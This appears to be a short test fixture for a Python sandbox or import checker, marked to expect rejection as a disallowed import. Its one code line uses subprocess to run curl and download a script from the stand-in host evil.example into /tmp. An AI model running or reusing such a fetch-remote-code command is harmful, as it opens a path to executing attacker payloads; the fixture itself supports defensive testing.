# expect: import-not-allowed
import subprocess as sp
sp.run(["curl", "-s", "http://evil.example/x.sh", "-o", "/tmp/x.sh"])
